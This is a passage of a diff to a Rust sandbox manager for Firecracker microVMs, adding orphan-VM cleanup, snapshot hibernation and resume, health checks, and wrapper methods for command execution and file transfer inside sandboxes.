+                tracing::trace!(sandbox_id = %id, owner_pid = owner, "VM owned by another live process, skipping");
+                continue;
+            }
+            let socket_path = vm_dir.join("firecracker.socket");
+            let pid = bouvet_vm::socket_peer_pid(&socket_path)
+                .await
+                .ok()
+                .flatten();
+            if pid.is_some_and(|pid| parent_pid(pid) == Some(std::process::id())) {
+                tracing::trace!(sandbox_id = %id, pid, "VM belongs to this process, skipping");
+                continue;
+            }
+            orphans.push(OrphanVm {
+                id,
+                socket_path,
+                pid,
+            });
+        }
+        tracing::debug!(count = orphans.len(), "Scanned for orphaned VMs");
+        Ok(orphans)
+    }
+
+    /// Kill orphaned VMs and remove their directories.
+    ///
+    /// Finds orphans like [`find_orphans`](Self::find_orphans), sends each
+    /// running Firecracker process SIGKILL and deletes the VM directory.
+    /// Failures are logged and the rest are still cleaned up.
+    ///
+    /// # Returns
+    ///
+    /// The orphans that were cleaned up.
+    pub async fn cleanup_orphans(&self) -> Result<Vec<OrphanVm>, CoreError> {
+        let orphans = self.find_orphans().await?;
+        let mut cleaned = Vec::with_capacity(orphans.len());
+        for orphan in orphans {
+            if let Some(pid) = orphan.pid {
+                if let Err(e) = bouvet_vm::kill_process(pid) {
+                    tracing::error!(sandbox_id = %orphan.id, pid, error = %e, "Failed to kill orphaned VM");
+                    continue;
+                }
+            }
+            let vm_dir = self.config.chroot_path.join(orphan.id.to_string());
+            if let Err(e) = tokio::fs::remove_dir_all(&vm_dir).await {
+                tracing::warn!(sandbox_id = %orphan.id, error = %e, "Failed to remove orphaned VM directory");
+            }
+            tracing::info!(sandbox_id = %orphan.id, pid = ?orphan.pid, "Orphaned VM cleaned up");
+            cleaned.push(orphan);
+        }
+        Ok(cleaned)
+    }
+
+    /// Snapshot a sandbox to `snapshot_dir` and destroy its VM.
+    ///
+    /// The sandbox leaves the live registry and is tracked as hibernated
+    /// until [`resume_from_hibernate`](Self::resume_from_hibernate) or
+    /// [`discard_hibernated`](Self::discard_hibernated). Its VM is paused
+    /// for the snapshot, so the guest resumes mid-flight later.
+    ///
+    /// # Errors
+    ///
+    /// Returns `NotFound` for unknown sandboxes. If the snapshot fails the
+    /// sandbox is resumed and stays registered.
+    pub async fn hibernate(&self, id: SandboxId) -> Result<SnapshotHandle, CoreError> {
+        tracing::debug!(sandbox_id = %id, "Hibernating sandbox");
+        let mut sandbox = self
+            .sandboxes
+            .write()
+            .await
+            .remove(&id)
+            .ok_or(CoreError::NotFound(id))?;
+
+        let handle = match sandbox.snapshot(&self.config.snapshot_dir).await {
+            Ok(handle) => handle,
+            Err(e) => {
+                tracing::warn!(sandbox_id = %id, error = %e, "Hibernate failed, keeping sandbox");
+                self.sandboxes.write().await.insert(id, sandbox);
+                return Err(e);
+            }
+        };
+        self.hibernated.write().await.insert(id, handle.clone());
+
+        // The snapshot is safe on disk; a failed teardown only leaks the VM
+        if let Err(e) = sandbox.destroy().await {
+            tracing::warn!(sandbox_id = %id, error = %e, "Failed to destroy hibernated sandbox VM");
+        }
+        tracing::info!(sandbox_id = %id, dir = %handle.dir().display(), "Sandbox hibernated");
+        Ok(handle)
+    }
+
+    /// Restore a hibernated sandbox and register it under its old ID.
+    ///
+    /// The snapshot files are removed once the sandbox is running again.
+    ///
+    /// # Errors
+    ///
+    /// Returns `NotFound` if the handle's sandbox is not hibernated. If the
+    /// restore fails or the max_sandboxes limit is reached, the sandbox
+    /// stays hibernated.
+    pub async fn resume_from_hibernate(
+        &self,
+        handle: &SnapshotHandle,
+    ) -> Result<SandboxId, CoreError> {
+        let id = handle.sandbox_id;
+        tracing::debug!(sandbox_id = %id, "Resuming hibernated sandbox");
+        let handle = self
+            .hibernated
+            .write()
+            .await
+            .remove(&id)
+            .ok_or(CoreError::NotFound(id))?;
+
+        if self.config.max_sandboxes > 0
+            && self.count().await + self.reserved_slots() >= self.config.max_sandboxes
+        {
+            self.hibernated.write().await.insert(id, handle);
+            return Err(CoreError::Connection(format!(
+                "max sandbox limit reached ({})",
+                self.config.max_sandboxes
+            )));
+        }
+
+        let sandbox = match Sandbox::restore(&handle, &self.config.firecracker_path).await {
+            Ok(sandbox) => sandbox,
+            Err(e) => {
+                tracing::warn!(sandbox_id = %id, error = %e, "Resume failed, sandbox stays hibernated");
+                self.hibernated.write().await.insert(id, handle);
+                return Err(e);
+            }
+        };
+        self.sandboxes.write().await.insert(id, sandbox);
+
+        if let Err(e) = tokio::fs::remove_dir_all(handle.dir()).await {
+            tracing::warn!(sandbox_id = %id, error = %e, "Failed to remove snapshot files");
+        }
+        tracing::info!(sandbox_id = %id, "Sandbox resumed from hibernation");
+        Ok(id)
+    }
+
+    /// Delete a hibernated sandbox's snapshot and forget it.
+    ///
+    /// # Errors
+    ///
+    /// Returns `NotFound` if the sandbox is not hibernated.
+    pub async fn discard_hibernated(&self, id: SandboxId) -> Result<(), CoreError> {
+        let handle = self
+            .hibernated
+            .write()
+            .await
+            .remove(&id)
+            .ok_or(CoreError::NotFound(id))?;
+        if let Err(e) = tokio::fs::remove_dir_all(handle.dir()).await {
+            tracing::warn!(sandbox_id = %id, error = %e, "Failed to remove snapshot files");
+        }
+        tracing::info!(sandbox_id = %id, "Hibernated sandbox discarded");
+        Ok(())
+    }
+
+    /// List hibernated sandboxes.
+    pub async fn hibernated(&self) -> Vec<SnapshotHandle> {
+        self.hibernated.read().await.values().cloned().collect()
+    }
+
+    /// List all sandbox IDs.
+    pub async fn list(&self) -> Vec<SandboxId> {
+        let sandboxes = self.sandboxes.read().await;
+        sandboxes.keys().copied().collect()
+    }
+
+    /// Get the number of active sandboxes.
+    pub async fn count(&self) -> usize {
+        let sandboxes = self.sandboxes.read().await;
+        sandboxes.len()
+    }
+
+    /// List the sandboxes labelled `key` = `value`, ordered by ID.
+    pub async fn find_by_label(&self, key: &str, value: &str) -> Vec<SandboxId> {
+        let sandboxes = self.sandboxes.read().await;
+        let mut ids: Vec<SandboxId> = sandboxes
+            .iter()
+            .filter(|(_, sandbox)| sandbox.labels().get(key).is_some_and(|v| v == value))
+            .map(|(id, _)| *id)
+            .collect();
+        ids.sort_by_key(SandboxId::as_uuid);
+        ids
+    }
+
+    /// Get a sandbox's state, size, labels and uptime.
+    ///
+    /// Only host-side state is read; the agent isn't contacted.
+    pub async fn info(&self, id: SandboxId) -> Result<SandboxInfoData, CoreError> {
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        Ok(SandboxInfoData::from(sandbox))
+    }
+
+    /// Get a sandbox's labels.
+    pub async fn labels(&self, id: SandboxId) -> Result<HashMap<String, String>, CoreError> {
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        Ok(sandbox.labels().clone())
+    }
+
+    /// Sum the vCPUs and memory configured for all active sandboxes.
+    ///
+    /// Taken under a single read lock, so the totals are a consistent
+    /// snapshot. Useful to decide whether the host can take more sandboxes.
+    pub async fn resource_totals(&self) -> ResourceTotals {
+        let sandboxes = self.sandboxes.read().await;
+        sandboxes.values().map(Sandbox::config).collect()
+    }
+
+    /// Health-check every sandbox.
+    ///
+    /// Pings up to 16 sandboxes at a time; one that doesn't answer within
+    /// 2 seconds, or isn't ready, counts as unhealthy. Nothing is removed or
+    /// destroyed: callers decide what to do with unhealthy sandboxes.
+    ///
+    /// # Returns
+    ///
+    /// Each sandbox's ID and health, ordered by ID.
+    pub async fn ping_all(&self) -> Vec<(SandboxId, bool)> {
+        let sandboxes = self.sandboxes.read().await;
+        // Collected first: a lazily mapped iterator makes the future not Send
+        let pings: Vec<_> = sandboxes
+            .iter()
+            .map(|(id, sandbox)| async move {
+                let healthy = tokio::time::timeout(HEALTH_CHECK_TIMEOUT, sandbox.is_healthy())
+                    .await
+                    .unwrap_or(false);
+                (*id, healthy)
+            })
+            .collect();
+        let mut health: Vec<(SandboxId, bool)> = stream::iter(pings)
+            .buffer_unordered(HEALTH_CHECK_CONCURRENCY)
+            .collect()
+            .await;
+        health.sort_by_key(|(id, _)| id.as_uuid());
+        let unhealthy = health.iter().filter(|(_, healthy)| !healthy).count();
+        tracing::debug!(count = health.len(), unhealthy, "Pinged all sandboxes");
+        health
+    }
+
+    // =========================================================================
+    // Direct Sandbox Operations
+    // =========================================================================
+    // These methods avoid the lifetime issues of with_sandbox_async by performing
+    // the operation directly within the lock scope.
+
+    /// Reject `command` if the configured command filter forbids it.
+    fn check_command(&self, id: SandboxId, command: &str) -> Result<(), CoreError> {
+        let Some(filter) = &self.config.command_filter else {
+            return Ok(());
+        };
+        filter.check(command).inspect_err(|e| {
+            tracing::warn!(sandbox_id = %id, error = %e, "Command rejected by filter");
+        })
+    }
+
+    /// Execute a shell command in a sandbox.
+    ///
+    /// This is a convenience method that avoids lifetime issues with closures.
+    pub async fn execute(
+        &self,
+        id: SandboxId,
+        command: &str,
+    ) -> Result<crate::ExecResult, CoreError> {
+        tracing::debug!(sandbox_id = %id, cmd_len = command.len(), "Manager: execute");
+        self.check_command(id, command)?;
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.execute(command).await
+    }
+
+    /// Execute a shell command in a sandbox with per-call limits.
+    pub async fn execute_with(
+        &self,
+        id: SandboxId,
+        command: &str,
+        options: &crate::ExecOptions,
+    ) -> Result<crate::ExecResult, CoreError> {
+        tracing::debug!(sandbox_id = %id, cmd_len = command.len(), ?options, "Manager: execute_with");
+        self.check_command(id, command)?;
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.execute_with(command, options).await
+    }
+
+    /// Execute a shell command in a sandbox, streaming its output.
+    ///
+    /// See [`Sandbox::execute_stream`].
+    pub async fn execute_stream(
+        &self,
+        id: SandboxId,
+        command: &str,
+        options: &crate::ExecOptions,
+    ) -> Result<crate::ExecStream, CoreError> {
+        tracing::debug!(sandbox_id = %id, cmd_len = command.len(), ?options, "Manager: execute_stream");
+        self.check_command(id, command)?;
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.execute_stream(command, options).await
+    }
+
+    /// Execute a shell command in a sandbox and check its exit code.
+    ///
+    /// Fails with [`CoreError::UnexpectedExit`] if the exit code differs
+    /// from `expected_exit`.
+    pub async fn execute_expect(
+        &self,
+        id: SandboxId,
+        command: &str,
+        expected_exit: i32,
+    ) -> Result<crate::ExecResult, CoreError> {
+        tracing::debug!(sandbox_id = %id, cmd_len = command.len(), expected_exit, "Manager: execute_expect");
+        self.check_command(id, command)?;
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.execute_expect(command, expected_exit).await
+    }
+
+    /// Execute a program directly (without a shell) in a sandbox.
+    pub async fn execute_argv(
+        &self,
+        id: SandboxId,
+        argv: &[String],
+    ) -> Result<crate::ExecResult, CoreError> {
+        tracing::debug!(sandbox_id = %id, argc = argv.len(), "Manager: execute_argv");
+        self.check_command(id, &argv.join(" "))?;
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.execute_argv(argv).await
+    }
+
+    /// Execute code in a specific language in a sandbox.
+    ///
+    /// Supported languages: python, python3, node, javascript, bash, sh, ruby, go, typescript, deno, rust
+    pub async fn execute_code(
+        &self,
+        id: SandboxId,
+        language: &str,
+        code: &str,
+    ) -> Result<crate::ExecResult, CoreError> {
+        tracing::debug!(sandbox_id = %id, lang = %language, code_len = code.len(), "Manager: execute_code");
+        self.check_command(id, code)?;
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.execute_code(language, code).await
+    }
+
+    /// Execute code in a sandbox with per-call limits.
+    pub async fn execute_code_with(
+        &self,
+        id: SandboxId,
+        language: &str,
+        code: &str,
+        options: &crate::ExecOptions,
+    ) -> Result<crate::ExecResult, CoreError> {
+        tracing::debug!(sandbox_id = %id, lang = %language, code_len = code.len(), ?options, "Manager: execute_code_with");
+        self.check_command(id, code)?;
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.execute_code_with(language, code, options).await
+    }
+
+    /// Execute code in a sandbox, streaming its output.
+    ///
+    /// See [`Sandbox::execute_code_stream`].
+    pub async fn execute_code_stream(
+        &self,
+        id: SandboxId,
+        language: &str,
+        code: &str,
+        options: &crate::ExecOptions,
+    ) -> Result<crate::ExecStream, CoreError> {
+        tracing::debug!(sandbox_id = %id, lang = %language, code_len = code.len(), ?options, "Manager: execute_code_stream");
+        self.check_command(id, code)?;
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.execute_code_stream(language, code, options).await
+    }
+
+    /// Send `signal` to a streamed command in a sandbox.
+    ///
+    /// See [`Sandbox::cancel`]. Returns `false` if no command with
+    /// `exec_id` is running.
+    pub async fn cancel_exec(
+        &self,
+        id: SandboxId,
+        exec_id: u64,
+        signal: crate::Signal,
+    ) -> Result<bool, CoreError> {
+        tracing::debug!(sandbox_id = %id, exec_id, ?signal, "Manager: cancel_exec");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        Ok(sandbox.cancel(exec_id, signal))
+    }
+
+    /// IDs of a sandbox's running streamed commands, oldest first.
+    pub async fn running_execs(&self, id: SandboxId) -> Result<Vec<u64>, CoreError> {
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        Ok(sandbox.running_execs())
+    }
+
+    /// Execute a multi-file program in a sandbox.
+    ///
+    /// Supported languages: python, python3, node, javascript, bash, sh, go
+    pub async fn exec_project(
+        &self,
+        id: SandboxId,
+        language: &str,
+        entry: &str,
+        files: &HashMap<String, String>,
+    ) -> Result<crate::ExecResult, CoreError> {
+        tracing::debug!(sandbox_id = %id, lang = %language, entry = %entry, files = files.len(), "Manager: exec_project");
+        for content in files.values() {
+            self.check_command(id, content)?;
+        }
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.exec_project(language, entry, files).await
+    }
+
+    /// Execute a multi-file program in a sandbox, creating its project
+    /// directory inside `cwd`.
+    pub async fn exec_project_in(
+        &self,
+        id: SandboxId,
+        language: &str,
+        entry: &str,
+        files: &HashMap<String, String>,
+        cwd: Option<&str>,
+    ) -> Result<crate::ExecResult, CoreError> {
+        tracing::debug!(sandbox_id = %id, lang = %language, entry = %entry, files = files.len(), cwd = ?cwd, "Manager: exec_project_in");
+        for content in files.values() {
+            self.check_command(id, content)?;
+        }
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.exec_project_in(language, entry, files, cwd).await
+    }
+
+    /// Execute a multi-file program in a sandbox with per-call settings.
+    ///
+    /// See [`Sandbox::exec_project_with`].
+    pub async fn exec_project_with(
+        &self,
+        id: SandboxId,
+        language: &str,
+        entry: &str,
+        files: &HashMap<String, String>,
+        options: &crate::ExecOptions,
+    ) -> Result<crate::ExecResult, CoreError> {
+        tracing::debug!(sandbox_id = %id, lang = %language, entry = %entry, files = files.len(), ?options, "Manager: exec_project_with");
+        for content in files.values() {
+            self.check_command(id, content)?;
+        }
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox
+            .exec_project_with(language, entry, files, options)
+            .await
+    }
+
+    /// Read a file from a sandbox.
+    pub async fn read_file(&self, id: SandboxId, path: &str) -> Result<String, CoreError> {
+        tracing::debug!(sandbox_id = %id, path = %path, "Manager: read_file");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.read_file(path).await
+    }
+
+    /// Read a file's raw bytes from a sandbox, base64-encoded.
+    pub async fn read_file_base64(
+        &self,
+        id: SandboxId,
+        path: &str,
+    ) -> Result<crate::FileDownload, CoreError> {
+        tracing::debug!(sandbox_id = %id, path = %path, "Manager: read_file_base64");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.read_file_base64(path).await
+    }
+
+    /// Write a file to a sandbox.
+    pub async fn write_file(
+        &self,
         id: SandboxId,
         path: &str,
         content: &str,
@@ -359,63 +1532,1650 @@ impl SandboxManager {
         sandbox.write_file(path, content).await
     }
 
-    /// List directory contents in a sandbox.
-    pub async fn list_dir(
-        &self,
-        id: SandboxId,
-        path: &str,
-    ) -> Result<Vec<crate::FileEntry>, CoreError> {
-        tracing::debug!(sandbox_id = %id, path = %path, "Manager: list_dir");
-        let sandboxes = self.sandboxes.read().await;
-        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
-        sandbox.list_dir(path).await
+    /// Write a file to a sandbox and set its permission bits.
+    pub async fn write_file_with_mode(
+        &self,
+        id: SandboxId,
+        path: &str,
+        content: &str,
+        mode: Option<u32>,
+    ) -> Result<(), CoreError> {
+        tracing::debug!(sandbox_id = %id, path = %path, content_len = content.len(), mode = ?mode, "Manager: write_file_with_mode");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.write_file_with_mode(path, content, mode).await
+    }
+
+    /// Create an empty file or update its modification time in a sandbox.
+    pub async fn touch(&self, id: SandboxId, path: &str) -> Result<(), CoreError> {
+        tracing::debug!(sandbox_id = %id, path = %path, "Manager: touch");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.touch(path).await
+    }
+
+    /// Get a path's metadata in a sandbox.
+    pub async fn stat(&self, id: SandboxId, path: &str) -> Result<crate::FileStat, CoreError> {
+        tracing::debug!(sandbox_id = %id, path = %path, "Manager: stat");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.stat(path).await
+    }
+
+    /// Delete a file or directory in a sandbox.
+    pub async fn delete_file(
+        &self,
+        id: SandboxId,
+        path: &str,
+        recursive: bool,
+    ) -> Result<(), CoreError> {
+        tracing::debug!(sandbox_id = %id, path = %path, recursive, "Manager: delete_file");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.delete_file(path, recursive).await
+    }
+
+    /// Rename or move a file or directory in a sandbox.
+    pub async fn rename(&self, id: SandboxId, from: &str, to: &str) -> Result<(), CoreError> {
+        tracing::debug!(sandbox_id = %id, from = %from, to = %to, "Manager: rename");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.rename(from, to).await
+    }
+
+    /// Create a directory and any missing parents in a sandbox.
+    pub async fn mkdir(&self, id: SandboxId, path: &str) -> Result<(), CoreError> {
+        tracing::debug!(sandbox_id = %id, path = %path, "Manager: mkdir");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.mkdir(path).await
+    }
+
+    /// Grow a sandbox's scratch drive and its filesystem.
+    pub async fn resize_scratch(&self, id: SandboxId, new_size_mib: u64) -> Result<(), CoreError> {
+        tracing::debug!(sandbox_id = %id, new_size_mib, "Manager: resize_scratch");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.resize_scratch(new_size_mib).await
+    }
+
+    /// Start a resumable upload to a file in a sandbox.
+    pub async fn upload_begin(
+        &self,
+        id: SandboxId,
+        path: &str,
+        total_size: u64,
+        sha256: &str,
+    ) -> Result<crate::UploadStatus, CoreError> {
+        tracing::debug!(sandbox_id = %id, path = %path, total_size, "Manager: upload_begin");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.upload_begin(path, total_size, sha256).await
+    }
+
+    /// Write a chunk of an upload in a sandbox.
+    pub async fn upload_chunk(
+        &self,
+        id: SandboxId,
+        upload_id: &str,
+        offset: u64,
+        data: &[u8],
+    ) -> Result<crate::UploadStatus, CoreError> {
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.upload_chunk(upload_id, offset, data).await
+    }
+
+    /// Get the progress of an upload in a sandbox.
+    pub async fn upload_status(
+        &self,
+        id: SandboxId,
+        upload_id: &str,
+    ) -> Result<crate::UploadStatus, CoreError> {
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.upload_status(upload_id).await
+    }
+
+    /// Verify and complete an upload in a sandbox.
+    pub async fn upload_finish(
+        &self,
+        id: SandboxId,
+        upload_id: &str,
+    ) -> Result<crate::UploadFinish, CoreError> {
+        tracing::debug!(sandbox_id = %id, upload_id = %upload_id, "Manager: upload_finish");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.upload_finish(upload_id).await
+    }
+
+    /// Copy a host file into a sandbox in chunks, reporting progress.
+    ///
+    /// See [`Sandbox::upload_file`].
+    pub async fn upload_file(
+        &self,
+        id: SandboxId,
+        host_path: impl AsRef<std::path::Path>,
+        guest_path: &str,
+        progress: impl FnMut(u64, u64) + Send,
+    ) -> Result<u64, CoreError> {
+        tracing::debug!(sandbox_id = %id, guest_path = %guest_path, "Manager: upload_file");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.upload_file(host_path, guest_path, progress).await
+    }
+
+    /// Copy a file out of a sandbox in chunks, reporting progress.
+    ///
+    /// See [`Sandbox::download_file`].
+    pub async fn download_file(
+        &self,
+        id: SandboxId,
+        guest_path: &str,
+        host_path: impl AsRef<std::path::Path>,
+        progress: impl FnMut(u64, u64) + Send,
+    ) -> Result<u64, CoreError> {
+        tracing::debug!(sandbox_id = %id, guest_path = %guest_path, "Manager: download_file");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.download_file(guest_path, host_path, progress).await
+    }
+
+    /// Archive a directory in a sandbox to a `.tar.gz` on the host.
+    ///
+    /// See [`Sandbox::export_workspace`].
+    pub async fn export_workspace(
+        &self,
+        id: SandboxId,
+        dir: Option<&str>,
+        host_path: impl AsRef<std::path::Path>,
+        max_bytes: u64,
+    ) -> Result<crate::WorkspaceExport, CoreError> {
+        tracing::debug!(sandbox_id = %id, dir = ?dir, "Manager: export_workspace");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.export_workspace(dir, host_path, max_bytes).await
+    }
+
+    /// Read the last lines of a file in a sandbox.
+    pub async fn tail_lines(
+        &self,
+        id: SandboxId,
+        path: &str,
+        lines: usize,
+    ) -> Result<Vec<String>, CoreError> {
+        tracing::debug!(sandbox_id = %id, path = %path, lines, "Manager: tail_lines");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.tail_lines(path, lines).await
+    }
+
+    /// Stream the last lines of a file in a sandbox, optionally following it.
+    ///
+    /// See [`Sandbox::tail`].
+    pub async fn tail(
+        &self,
+        id: SandboxId,
+        path: &str,
+        lines: usize,
+        follow: bool,
+    ) -> Result<crate::TailStream, CoreError> {
+        tracing::debug!(sandbox_id = %id, path = %path, lines, follow, "Manager: tail");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.tail(path, lines, follow).await
+    }
+
+    /// Check whether `host:port` is reachable from inside a sandbox.
+    pub async fn check_connectivity(
+        &self,
+        id: SandboxId,
+        host: &str,
+        port: u16,
+        timeout: Duration,
+    ) -> Result<crate::ConnectivityResult, CoreError> {
+        tracing::debug!(sandbox_id = %id, host = %host, port, "Manager: check_connectivity");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.check_connectivity(host, port, timeout).await
+    }
+
+    /// Remove everything in a sandbox's `/tmp`.
+    pub async fn clear_tmp(&self, id: SandboxId) -> Result<u64, CoreError> {
+        tracing::debug!(sandbox_id = %id, "Manager: clear_tmp");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.clear_tmp().await
+    }
+
+    /// Get the guest distribution identifiers of a sandbox.
+    pub async fn os_info(&self, id: SandboxId) -> Result<crate::OsInfo, CoreError> {
+        tracing::debug!(sandbox_id = %id, "Manager: os_info");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.os_info().await
+    }
+
+    /// Set the guest hostname of a sandbox.
+    pub async fn set_hostname(&self, id: SandboxId, name: &str) -> Result<(), CoreError> {
+        tracing::debug!(sandbox_id = %id, hostname = %name, "Manager: set_hostname");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.set_hostname(name).await
+    }
+
+    /// List directory contents in a sandbox.
+    pub async fn list_dir(
+        &self,
+        id: SandboxId,
+        path: &str,
+        options: &crate::ListDirOptions,
+    ) -> Result<Vec<crate::FileEntry>, CoreError> {
+        tracing::debug!(sandbox_id = %id, path = %path, "Manager: list_dir");
+        let sandboxes = self.sandboxes.read().await;
+        let sandbox = sandboxes.get(&id).ok_or(CoreError::NotFound(id))?;
+        sandbox.list_dir(path, options).await
+    }
+}
+
+/// Run destroy futures concurrently until they finish or `deadline` passes.
+///
+/// Futures still pending at the deadline are aborted (dropped).
+///
+/// # Returns
+///
+/// The IDs whose futures did not finish in time.
+async fn destroy_until<F>(work: Vec<(SandboxId, F)>, deadline: Instant) -> Vec<SandboxId>
+where
+    F: Future<Output = Result<(), CoreError>> + Send + 'static,
+{
+    let mut pending: std::collections::HashSet<SandboxId> =
+        work.iter().map(|(id, _)| *id).collect();
+    let mut tasks = JoinSet::new();
+    for (id, fut) in work {
+        tasks.spawn(async move { (id, fut.await) });
+    }
+
+    loop {
+        match tokio::time::timeout_at(deadline, tasks.join_next()).await {
+            Ok(Some(Ok((id, result)))) => {
+                pending.remove(&id);
+                if let Err(e) = result {
+                    tracing::error!(sandbox_id = %id, error = %e, "Failed to destroy sandbox");
+                }
+            }
+            Ok(Some(Err(e))) => {
+                // The task panicked; its sandbox is treated as unfinished
+                tracing::error!(error = %e, "Sandbox destroy task failed");
+            }
+            Ok(None) => break,
+            Err(_) => {
+                tracing::warn!(remaining = pending.len(), "Destroy deadline reached");
+                tasks.abort_all();
+                break;
+            }
+        }
+    }
+
+    let mut unfinished: Vec<SandboxId> = pending.into_iter().collect();
+    unfinished.sort_by_key(|id| id.as_uuid());
+    unfinished
+}
+
+/// Find VM directories in `chroot` that may belong to a running VM.
+///
+/// A directory qualifies if its name is a sandbox UUID and it contains a
+/// Firecracker API socket. Returns an empty list if `chroot` doesn't exist.
+fn scan_vm_dirs(chroot: &Path) -> Result<Vec<SandboxId>, CoreError> {
+    let entries = match std::fs::read_dir(chroot) {
+        Ok(entries) => entries,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Vec::new()),
+        Err(e) => return Err(e.into()),
+    };
+
+    let mut ids = Vec::new();
+    for entry in entries {
+        let entry = entry?;
+        if !entry.file_type()?.is_dir() {
+            continue;
+        }
+        let Some(id) = entry
+            .file_name()
+            .to_str()
+            .and_then(|name| uuid::Uuid::parse_str(name).ok())
+        else {
+            continue;
+        };
+        if entry.path().join("firecracker.socket").exists() {
+            ids.push(SandboxId::from(id));
+        }
+    }
+    ids.sort_by_key(|id| id.as_uuid());
+    Ok(ids)
+}
+
+/// Read the parent of process `pid` from procfs.
+fn parent_pid(pid: u32) -> Option<u32> {
+    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
+    // The command name is in parentheses and may contain spaces or ')'
+    let (_, rest) = stat.rsplit_once(')')?;
+    rest.split_whitespace().nth(1)?.parse().ok()
+}
+
+impl Drop for SandboxManager {
+    fn drop(&mut self) {
+        if let Some(reaper) = self.reaper.get_mut().unwrap().take() {
+            reaper.abort();
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn test_config() -> ManagerConfig {
+        ManagerConfig::new(
+            "/path/to/vmlinux",
+            "/path/to/rootfs.ext4",
+            "/usr/bin/firecracker",
+            "/tmp/bouvet",
+        )
+    }
+
+    #[test]
+    fn test_manager_config_new() {
+        let config = test_config();
+        assert_eq!(config.kernel_path, PathBuf::from("/path/to/vmlinux"));
+        assert_eq!(config.rootfs_path, PathBuf::from("/path/to/rootfs.ext4"));
+        assert_eq!(
+            config.firecracker_path,
+            PathBuf::from("/usr/bin/firecracker")
+        );
+        assert_eq!(config.chroot_path, PathBuf::from("/tmp/bouvet"));
+    }
+
+    #[test]
